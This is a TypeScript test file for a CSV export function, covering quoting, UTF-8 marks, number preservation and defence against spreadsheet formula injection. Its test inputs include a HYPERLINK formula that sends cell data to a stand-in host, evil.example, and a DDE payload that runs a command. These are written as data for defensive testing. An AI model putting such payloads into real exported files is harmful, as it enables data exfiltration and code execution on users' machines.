import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { toCsv } from './csv';

const getCell = (text: string) => (Papa.parse(toCsv(['A'], [[text]])).data as string[][])[1]?.[0];

test('a table is UTF-8 with its mark, quoted where needed, a line each', () => {
  expect(
    toCsv(
      ['Wallet', 'Amount', 'Description'],
      [
        ['Receiving Wallet', '-500.00', 'Package "Alpha", for self'],
        ['Live Wallet', '25.00', undefined],
        ['मुंबई ₹', '0.00', 'two\nlines'],
      ],
    ),
  ).toBe(
    '\uFEFFWallet,Amount,Description\r\n' +
      'Receiving Wallet,-500.00,"Package ""Alpha"", for self"\r\n' +
      'Live Wallet,25.00,\r\n' +
      'मुंबई ₹,0.00,"two\nlines"',
  );
});

// Of any code points, because the library's own unit takes seconds to build.
const anyText = fc.string({ unit: fc.nat({ max: 0x10ffff }).map((point) => String.fromCodePoint(point)) });

describe('a cell', () => {
  test.each([
    '=1+1',
    '+1',
    '+49 1234',
    '-1+1',
    '-A1',
    '-',
    '--1',
    '-1e3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
  ])('%j is no formula (T25)', (text) => {
    expect(getCell(text)).toBe(`'${text}`);
  });

  test.each(['00123', '0', '1234567890123456', '12e34', '123456789012345', '0.50', '7e', '1:100'])(
    '%j is read by a spreadsheet as it is',
    (text) => {
      expect(getCell(text)).toBe(/^(00123|1234567890123456|12e34|1:100)$/.test(text) ? `\t${text}` : text);
    },
  );

  test.each(['-500.00', '-0.01', '-7', '500', '0.00', 'a=b', '2026-11-20T21:17:05.000Z', "'x", ''])(
    '%j stays as it is',
    (text) => {
      expect(getCell(text)).toBe(text);
    },
  );

  test('round-trips any content, and is never a formula', () => {
    fc.assert(
      fc.property(anyText, fc.string(), (one, other) => {
        // The outer cells make each row a full line, and keep a leading mark from being dropped by the reader.
        const rows = [['x', one, other, 'x']];
        const back = (
          Papa.parse(toCsv(['a', 'b', 'c', 'd'], rows), { newline: '\r\n' }).data as string[][]
        )[1];
        for (const [location, text] of [one, other].entries()) {
          const cell = back?.[location + 1] ?? '';
          expect([text, `'${text}`]).toContain(cell);
          expect(cell).not.toMatch(/^\s*[=@＝＠＋－]|^\s*[+-](?!\d+(\.\d+)?$)/);
        }
      }),
    );
  });
});
